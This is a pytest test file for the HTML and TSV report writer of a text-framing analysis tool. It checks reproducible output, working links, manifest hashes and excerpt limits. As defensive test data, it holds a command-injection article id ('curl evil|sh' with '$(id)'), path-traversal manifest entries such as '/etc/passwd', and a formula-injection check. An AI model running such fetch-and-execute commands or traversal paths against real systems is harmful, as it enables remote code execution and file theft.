"""The report as files: both layouts, every time the same bytes, and nothing that says where it was made."""

import html
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from zipfile import ZipFile

import pyarrow as pa
import pytest

from framing.errors import ResultsError, UsageError
from framing.report import write_report
from framing.report.manifest import FORMAT, digest, pack, read_manifest, stale
from sample_tables import sample_tables

BESIDE = {".tsv", ".json", ".svg"}


def _bytes(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_few_articles_make_one_file_that_needs_no_other(tmp_path: Path) -> None:
    page = write_report(sample_tables(), tmp_path / "out")
    assert page == tmp_path / "out" / "index.html"
    assert [name for name in _bytes(tmp_path / "out") if name.endswith((".html", ".css", ".js"))] == ["index.html"]


def test_an_html_name_is_the_file_itself_and_points_to_none_beside_it(tmp_path: Path) -> None:
    assert write_report(sample_tables(), tmp_path / "visit.html") == tmp_path / "visit.html"
    assert list(_bytes(tmp_path)) == ["visit.html"]
    assert "data/stance" not in (tmp_path / "visit.html").read_text("utf-8")


@pytest.mark.parametrize("layout", ["single", "folder"])
def test_twice_the_same_tables_give_the_same_bytes(tmp_path: Path, layout: str) -> None:
    write_report(sample_tables(), tmp_path / "a", layout=layout)
    write_report(sample_tables(), tmp_path / "b", layout=layout)
    assert _bytes(tmp_path / "a") == _bytes(tmp_path / "b")


def test_no_page_says_where_it_was_made(tmp_path: Path) -> None:
    write_report(sample_tables(), tmp_path, layout="folder")
    assert not any(str(tmp_path).encode() in content for content in _bytes(tmp_path).values())


def test_file_names_come_from_ids_and_hold_nothing_odd(tmp_path: Path) -> None:
    write_report(sample_tables(), tmp_path, layout="folder")
    names = list(_bytes(tmp_path))
    assert all(re.fullmatch(r"[a-z0-9_./-]+", name) for name in names)
    assert "articles/a2.html" in names
    assert any(re.fullmatch(r"articles/a1-[0-9a-f]{8}\.html", name) for name in names)  # its id is "a1 <&>"


def test_tables_beside_the_pages_start_no_formula(tmp_path: Path) -> None:
    write_report(sample_tables(), tmp_path, layout="folder")
    tables = list((tmp_path / "data").glob("*.tsv"))
    assert {t.stem for t in tables} >= {"stance", "differences", "terms"}
    cells = [cell for t in tables for line in t.read_text("utf-8").splitlines() for cell in line.split("\t")]
    assert not [c for c in cells if re.match(r"[=+@]|-(?![\d.])", c)]


def test_an_unknown_layout_is_answered_with_the_known_ones(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="auto, folder, single"):
        write_report(sample_tables(), tmp_path, layout="book")


@pytest.mark.parametrize("layout", ["single", "folder"])
def test_every_link_inside_the_report_lands(tmp_path: Path, layout: str) -> None:
    write_report(sample_tables(), tmp_path, layout=layout)
    _every_link_lands(tmp_path)


def _every_link_lands(folder: Path) -> None:
    pages = {p.resolve(): p.read_text("utf-8") for p in folder.rglob("*.html")}
    ids = {path: re.findall(r'\sid="([^"]*)"', text) for path, text in pages.items()}
    for path, text in pages.items():
        assert len(ids[path]) == len(set(ids[path])), "an id stands twice"
        for href in re.findall(r'<a[^>]*\shref="([^"]*)"', text):
            if href.startswith("http"):
                continue
            file, _, anchor = href.partition("#")
            landing = (path.parent / file).resolve() if file else path
            assert landing in pages or (landing.suffix in BESIDE and landing.exists()), href
            assert not anchor or anchor in ids[landing], f"{path.name}: {href}"


@pytest.mark.parametrize("layout", ["single", "folder"])
def test_the_manifest_names_every_file_with_its_hash(tmp_path: Path, layout: str) -> None:
    write_report(sample_tables(), tmp_path, layout=layout)
    written = {name: digest(content) for name, content in _bytes(tmp_path).items() if name != "manifest.json"}
    assert read_manifest(tmp_path) == written
    about = json.loads((tmp_path / "manifest.json").read_text("utf-8"))
    assert about["corpus"] == "sample <corpus>"


def test_a_second_run_touches_only_what_has_changed(tmp_path: Path) -> None:
    tables = sample_tables()
    write_report(tables, tmp_path, layout="folder")
    for path in tmp_path.rglob("*"):
        os.utime(path, (1, 1))
    rows = [{**r, "title": "Another"} if r["article"] == "a4" else r for r in tables["articles"].to_pylist()]
    tables["articles"] = pa.Table.from_pylist(rows, schema=tables["articles"].schema)
    write_report(tables, tmp_path, layout="folder")
    new = {str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file() and p.stat().st_mtime > 1}
    # Its own page, its neighbour's link to it, and the lists that name it.
    assert new == {"articles/a4.html", "articles/a3.html", "index.html", "sources/unknown.html", "manifest.json"}


def test_what_an_earlier_layout_left_is_stale_unless_somebody_changed_it(tmp_path: Path) -> None:
    write_report(sample_tables(), tmp_path, layout="folder")
    before = read_manifest(tmp_path)
    (tmp_path / "articles" / "a2.html").write_text("my own notes")
    write_report(sample_tables(), tmp_path, layout="single")
    gone = {str(p.relative_to(tmp_path)) for p in stale(before, read_manifest(tmp_path), tmp_path)}
    assert "articles/a3.html" in gone
    assert "assets/report.css" in gone
    assert gone.isdisjoint({"articles/a2.html", "index.html", "data/stance.tsv"})


@pytest.mark.parametrize("path", ["../secret", "/etc/passwd", "a/../../secret", "..\\secret", ""])
def test_a_manifest_from_elsewhere_leads_nowhere_outside(tmp_path: Path, path: str) -> None:
    (tmp_path / "manifest.json").write_text(json.dumps({"format": FORMAT, "files": {path: "0", "index.html": "0"}}))
    assert list(read_manifest(tmp_path)) == ["index.html"]


@pytest.mark.parametrize("text", ["", "[]", "{", '{"format": "another"}', '{"format": "framing.report/1", "files": 3}'])
def test_a_manifest_that_is_none_is_no_manifest(tmp_path: Path, text: str) -> None:
    (tmp_path / "manifest.json").write_text(text)
    assert read_manifest(tmp_path) == {}


def test_a_report_packs_into_one_file_with_the_same_bytes_each_time(tmp_path: Path) -> None:
    packed = []
    for name in ("a", "b"):
        out = tmp_path / name / "visit"
        write_report(sample_tables(), out, layout="folder")
        (out / "results").mkdir()
        (out / "results" / "articles.parquet").write_text("full texts")
        packed.append(pack(out))
    assert packed[0].read_bytes() == packed[1].read_bytes()
    names = ZipFile(packed[0]).namelist()
    assert {"visit/index.html", "visit/articles/a2.html", "visit/manifest.json"} <= set(names)
    assert not any("results" in name for name in names)


def test_articles_that_nothing_cites_get_no_page_and_every_link_still_lands(tmp_path: Path) -> None:
    write_report(sample_tables(), tmp_path, layout="folder", articles="cited")
    assert not (tmp_path / "articles" / "a4.html").exists()
    assert (tmp_path / "articles" / "a2.html").exists()
    assert "framing show a4" in (tmp_path / "sources" / "unknown.html").read_text("utf-8")
    _every_link_lands(tmp_path)


def test_a_command_to_paste_is_one_word_for_the_shell_and_none_where_it_hides_something(tmp_path: Path) -> None:
    for name, command in {
        "a1; curl evil|sh #$(id)": "framing show 'a1; curl evil|sh #$(id)'",
        "--report=x": "framing show -- --report=x",
        "a\u202eb": None,
        "a\nb": None,
    }.items():
        tables = sample_tables()
        rows = [
            {**r, "article": name if r["article"] == "a4" else r["article"]} for r in tables["articles"].to_pylist()
        ]
        tables["articles"] = pa.Table.from_pylist(rows, schema=tables["articles"].schema)
        write_report(tables, tmp_path, layout="folder", articles="cited")
        page = (tmp_path / "sources" / "unknown.html").read_text("utf-8")
        found = [html.unescape(code) for code in re.findall("<code>(framing show .*?)</code>", page, re.DOTALL)]
        assert found == ([command] if command else [])


def test_two_pages_never_have_one_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("framing.report.write.slug", lambda _: "same")
    with pytest.raises(ResultsError, match=r"same\.html: two ids make the same file name"):
        write_report(sample_tables(), tmp_path, layout="folder")


@pytest.mark.parametrize("layout", ["single", "folder"])
def test_excerpts_show_nothing_that_is_not_judged_and_every_link_still_lands(tmp_path: Path, layout: str) -> None:
    write_report(sample_tables(), tmp_path, layout=layout, excerpts=True)
    everything = "".join(p.read_text("utf-8") for p in tmp_path.rglob("*") if p.is_file())
    words = re.sub(r"<[^>]+>", "", everything)
    for unjudged in ("It rained.", "Photo: agency"):
        assert unjudged in "".join(r["text"] for r in sample_tables()["articles"].to_pylist())
        assert unjudged not in words
    assert "[…]" in words
    _every_link_lands(tmp_path)


@pytest.mark.parametrize("layout", ["single", "folder"])
def test_excerpts_show_a_quarter_of_each_article_at_most_in_all_files_together(tmp_path: Path, layout: str) -> None:
    tables = _judged_throughout()
    shares = {}
    for excerpts in (False, True):
        out = tmp_path / str(excerpts)
        write_report(tables, out, layout=layout, excerpts=excerpts)
        shares[excerpts] = list(_shares_shown(tables, out))
    assert all(share == 1 for share in shares[False])
    assert all(0 < share <= 0.25 for share in shares[True])


def _judged_throughout() -> dict[str, pa.Table]:
    """Articles of eight long sentences that all judge a main target by a model, some very clearly."""
    values = (0.9, -0.8, 0.7, 0.65, -0.6, 0.4, 0.3, 0.25)
    tables = sample_tables()
    rows: dict[str, list[dict[str, object]]] = {"articles": [], "sentences": [], "evaluations": []}
    evaluation = next(r for r in tables["evaluations"].to_pylist() if r["target"] == "belarus")
    for old in tables["articles"].to_pylist()[:2]:
        said = [f"In the view of {old['source']} point {word} shows what Belarus is worth." for word in _ORDINALS]
        rows["articles"].append(old | {"title": "Points", "text": " ".join(said)})
        at = 0
        for number, words in enumerate(said):
            span = {"start": at, "end": at + len(words)}
            at += len(words) + 1
            rows["sentences"].append(
                {"article": old["article"], "sentence": number, **span, "text": words, "section": "body"}
            )
            judged = {"article": old["article"], "evaluation": number, "sentence": number, "value": values[number]}
            sides = {"negative": 0.8, "neutral": 0.1, "positive": 0.1}
            rows["evaluations"].append(evaluation | judged | sides | {"expression": None, "mention": None})
    made = {
        name: pa.Table.from_pylist([{k: r.get(k) for k in tables[name].column_names} for r in found],
                                   schema=tables[name].schema)
        for name, found in rows.items()
    }  # fmt: skip
    return {name: made.get(name, tables[name]) for name in ("run", "sources", "entities", "stance", *made)}


_ORDINALS = ("one", "two", "three", "four", "five", "six", "seven", "eight")


def _shares_shown(tables: dict[str, pa.Table], out: Path) -> Iterator[float]:
    """Yield of each article the share of words in sentences of five and more that stand in any file of the report."""
    texts = {r["article"]: r["text"] for r in tables["articles"].to_pylist()}
    pages = (p.read_text("utf-8") for p in out.rglob("*") if p.suffix in {".html", ".tsv", ".json", ".svg"})
    everything = " ".join(html.unescape(re.sub(r"<[^>]+>", "", "\n".join(pages))).split())
    for article, text in texts.items():
        sentences = [r for r in tables["sentences"].to_pylist() if r["article"] == article]
        written = [text[r["start"] : r["end"]].split() for r in sentences]
        long = [words for words in written if len(words) > 4]
        yield sum(len(w) for w in long if " ".join(w) in everything) / sum(map(len, long))


@pytest.mark.parametrize("layout", ["single", "folder"])
def test_excerpts_show_of_what_is_told_twice_only_what_is_judged(tmp_path: Path, layout: str) -> None:
    tables = sample_tables()
    quiet = [{**r, "value": 0.0} for r in tables["evaluations"].to_pylist() if r["article"] != "a1 <&>"]
    tables["evaluations"] = pa.Table.from_pylist(quiet, schema=tables["evaluations"].schema)
    (told,) = (r["text"] for r in tables["tellings"].to_pylist() if r["article"] == "a1 <&>" and r["telling"] == 0)
    for excerpts in (False, True):
        write_report(tables, tmp_path / str(excerpts), layout=layout, excerpts=excerpts)
        everything = "".join(p.read_text("utf-8") for p in (tmp_path / str(excerpts)).rglob("*.*"))
        assert (told in html.unescape(re.sub(r"<[^>]+>", "", everything))) != excerpts
        assert ("against “is unbreakable”" in everything) != excerpts
    assert not (tmp_path / "True" / "data" / "tellings.tsv").exists()


def test_excerpts_show_of_what_is_left_out_only_words_of_an_example_that_may_be_shown(tmp_path: Path) -> None:
    tables = sample_tables()
    rows = [
        {**r, "what": "the fullest rendering"} if r["kind"] == "quotation" else r
        for r in tables["omissions"].to_pylist()
    ]
    tables["omissions"] = pa.Table.from_pylist(rows, schema=tables["omissions"].schema)
    for excerpts in (False, True):
        write_report(tables, tmp_path / str(excerpts), layout="folder", excerpts=excerpts)
        page = (tmp_path / str(excerpts) / "events" / "visit-2025.html").read_text("utf-8")
        assert ("the fullest rendering" in page) != excerpts


def test_one_file_that_would_be_too_large_becomes_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("framing.report.write.SINGLE_BYTES", 10_000)
    write_report(sample_tables(), tmp_path / "auto")
    assert (tmp_path / "auto" / "articles").is_dir()
    write_report(sample_tables(), tmp_path / "asked", layout="single")
    assert not (tmp_path / "asked" / "articles").exists()
